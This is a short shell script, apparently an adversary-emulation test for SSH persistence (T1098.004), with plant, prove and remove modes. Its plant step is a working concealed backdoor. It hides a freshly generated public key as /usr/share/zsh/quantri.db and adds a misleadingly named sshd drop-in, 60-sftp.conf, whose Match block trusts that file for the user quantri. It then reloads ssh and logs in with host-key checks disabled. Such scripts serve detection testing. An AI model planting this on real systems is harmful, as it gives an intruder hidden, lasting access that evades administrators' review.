#!/bin/sh
# T1098.004 (quiet): A Match block reads an administrator's keys from a folder of data
M=/var/tmp/luytre-foothold N=14-match-keys
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
key() { rm -f "$M/$N.key" "$M/$N.key.pub"; ssh-keygen -q -t ed25519 -N "" -C "$1" -f "$M/$N.key"; }
enter() { u=$1; shift; ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i "$M/$N.key" "$u@127.0.0.1" "$@"; }
plant() {
  key "x"
  mkdir -p /usr/share/zsh; cp $M/$N.key.pub /usr/share/zsh/quantri.db; chmod 644 /usr/share/zsh/quantri.db
  w /etc/ssh/sshd_config.d/60-sftp.conf <<'E'
Match User quantri
    AuthorizedKeysFile .ssh/authorized_keys /usr/share/zsh/%u.db
E
  systemctl reload ssh; sleep 1
}
prove() {
  rm -f "$M/$N"
  enter quantri "id > /var/tmp/luytre-foothold/14-match-keys"
  seen
}
remove() {
  rm -rf /etc/ssh/sshd_config.d/60-sftp.conf /usr/share/zsh/quantri.db; systemctl reload ssh
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
